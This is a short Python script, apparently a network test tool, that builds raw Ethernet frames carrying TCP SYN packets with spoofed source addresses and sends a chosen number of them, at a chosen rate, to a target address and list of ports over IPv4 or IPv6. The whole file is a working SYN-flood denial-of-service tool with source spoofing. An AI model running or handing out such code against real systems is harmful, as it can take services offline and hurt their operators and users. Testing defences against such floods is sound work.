"""SYNs of many senders that do not exist, to some ports in turn: `python syn_flood.py DEVICE MAC ADDRESS PORT[,PORT...]
COUNT [PER_SECOND]`. IPv4 or IPv6."""

import random
import socket
import struct
import sys
import time

from frame_peer import checksum

OPTIONS = bytes([2, 4, 5, 0xB4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7])


def syn(mac: bytes, source: bytes, target: bytes, port: int, chance: random.Random) -> bytes:
    tcp = bytearray(struct.pack("!HHIIBBHHH", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0, 0xA0, 2,
                                64000, 0, 0) + OPTIONS)
    tcp[16:18] = checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp).to_bytes(2, "big")
    ethernet = mac + b"\2\0\0\0\0\x63"
    if len(source) == 16:
        return ethernet + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source + target + tcp
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target))
    ip[10:12] = checksum(ip).to_bytes(2, "big")
    return ethernet + b"\x08\0" + ip + tcp


def main(device: str, mac: str, address: str, ports: str, count: int, per_second: int) -> None:
    chance, to = random.Random(1), [int(port) for port in ports.split(",")]
    target = socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)
    begun = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((device, 0))
        for number in range(count):
            source = target[:-1] + bytes([100 + number % 100])
            sock.send(syn(bytes.fromhex(mac.replace(":", "")), source, target, to[number % len(to)], chance))
            if per_second and (ahead := number / per_second - time.monotonic() + begun) > 0:
                time.sleep(ahead)
    print("sent", count)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), int((*sys.argv, "0")[6]))
